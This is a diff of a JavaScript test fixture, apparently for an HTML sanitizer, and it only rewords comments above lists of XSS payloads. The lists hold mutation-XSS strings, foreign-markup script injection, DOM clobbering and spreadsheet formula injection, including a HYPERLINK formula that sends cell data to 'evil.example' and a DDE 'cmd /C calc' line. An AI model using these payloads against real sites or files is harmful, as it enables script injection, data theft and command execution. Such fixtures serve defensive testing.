@@ -1,4 +1,4 @@
-/** What calls `ran()` where it becomes markup, an address, a script or a style of a page. `ran` is put there by the test. */
+/** Calls `ran()`, which the test defines, if it becomes markup, a URL, a script or a style. */
 const call = "top.ran(1)";
 
 const events =
@@ -145,7 +145,7 @@ const foreignMarkup = [
   `<?xml-stylesheet href="javascript:${call}"?>`,
   `<x xmlns="http://www.w3.org/1999/xhtml"><script>${call}</script></x>`,
 ];
-/** Harmless as it is written, and something else once a parser has mended it. */
+/** Mutation XSS: harmless as source, but not after the parser repairs it. */
 const mutating = [
   `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
@@ -211,7 +211,7 @@ const wholePages = [
   `<img name=ran><form name=document>`,
   `<a id=ran href="cid:x">`,
 ];
-/** What programs for tables, calendars and cards would take for their own lines. */
+/** Payloads for spreadsheets, calendars and contact cards. */
 const files = [
   `=HYPERLINK("https://evil.example?"&A1,"x")`,
   `+cmd|' /C calc'!A0`,
